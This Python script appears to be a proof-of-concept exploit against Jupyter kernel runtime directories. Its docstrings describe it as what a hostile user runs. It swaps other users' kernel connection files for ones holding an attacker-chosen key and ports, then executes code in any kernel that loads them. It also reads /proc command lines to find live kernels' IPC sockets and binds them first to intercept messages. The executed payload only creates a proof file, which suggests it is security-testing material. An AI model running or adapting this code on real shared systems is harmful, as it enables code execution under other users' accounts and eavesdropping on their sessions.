"""What a hostile user runs where a runtime directory was: make it anew, and take over kernels.

swapper.py DIRECTORY: prints "ready". A connection file that appears there becomes one of ours, and
whatever kernel takes it runs our proof. Where the process list names a kernel of the directory,
we listen at its sockets. The end of its input ends it; then it says what came of it.
"""

import contextlib
import json
import os
import re
import select
import socket
import sys
import threading
import time
from pathlib import Path

import zmq
from jupyter_client import BlockingKernelClient

KEY = "the key of the stranger"
PORTS = ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")
PROOF = Path("/var/tmp/hijack/proofs/swapped-connection")
CHANNELS = {1: zmq.ROUTER, 3: zmq.ROUTER, 4: zmq.REP, 5: zmq.ROUTER}  # as jupyter_client counts


def free_ports():
    held = [socket.socket() for _each in PORTS]
    for each in held:
        each.bind(("127.0.0.1", 0))
    found = [each.getsockname()[1] for each in held]
    for each in held:
        each.close()
    return dict(zip(PORTS, found))  # noqa: B905 - Python 3.8


def ours(path):
    """The victim's file gives way to one that names our key and ports of all."""
    content = {"transport": "tcp", "ip": "127.0.0.1", "key": KEY, "kernel_name": "python3",
               "signature_scheme": "hmac-sha256", **free_ports()}  # fmt: skip
    path.unlink()
    path.write_text(json.dumps(content))
    path.chmod(0o644)
    threading.Thread(target=run_proof, args=(content,), daemon=True).start()


def run_proof(content):
    """Say it until a kernel with our key has heard it."""
    client = BlockingKernelClient()
    client.load_connection_info(content)
    client.start_channels()
    while not PROOF.exists():
        client.execute(f"open({str(PROOF)!r}, 'w').close()")
        time.sleep(1)


class Swapper:
    """What appears in one directory, and whose kernels belong to it."""

    def __init__(self, directory):
        self.directory, self.swapped, self.heard, self.bound = directory, [], [], {}
        self.context = zmq.Context()

    def swap(self):
        with contextlib.suppress(OSError):
            for path in self.directory.glob("kernel-*.json"):
                with contextlib.suppress(OSError):
                    if path.stat().st_uid != os.getuid():  # it may be written more than once
                        ours(path)
                        self.swapped.append(path.name)

    def listen(self):
        """At the sockets of kernels that live; everybody may read what they were called with."""
        for argv in Path("/proc").glob("[0-9]*/cmdline"):
            with contextlib.suppress(OSError):
                for stem in re.findall(f"{self.directory}/kernel-[0-9a-f-]+", argv.read_text()):
                    for channel, kind in CHANNELS.items():
                        self.bind(f"{stem}-ipc-{channel}", kind)

    def bind(self, path, kind):
        if path not in self.bound:
            self.bound[path] = held = self.context.socket(kind)
            with contextlib.suppress(zmq.ZMQError):
                held.bind(f"ipc://{path}")
                Path(path).chmod(0o777)

    def hear(self):
        for held in self.bound.values():
            with contextlib.suppress(zmq.ZMQError):
                self.heard.append(b" ".join(held.recv_multipart(zmq.NOBLOCK)).decode("latin-1"))


def main():
    directory = Path(sys.argv[1])
    with contextlib.suppress(OSError):
        for each in (directory.parent, directory):
            each.mkdir(exist_ok=True)
            each.chmod(0o777)
    swapper = Swapper(directory)
    swapper.listen()
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.001)[0]:
        swapper.swap()
        swapper.hear()
    deadline = time.time() + (60 if swapper.swapped else 0)  # a kernel may start slowly
    while not PROOF.exists() and time.time() < deadline:
        time.sleep(0.1)
    print(json.dumps({"swapped": len(swapper.swapped), "heard": swapper.heard}), flush=True)


main()
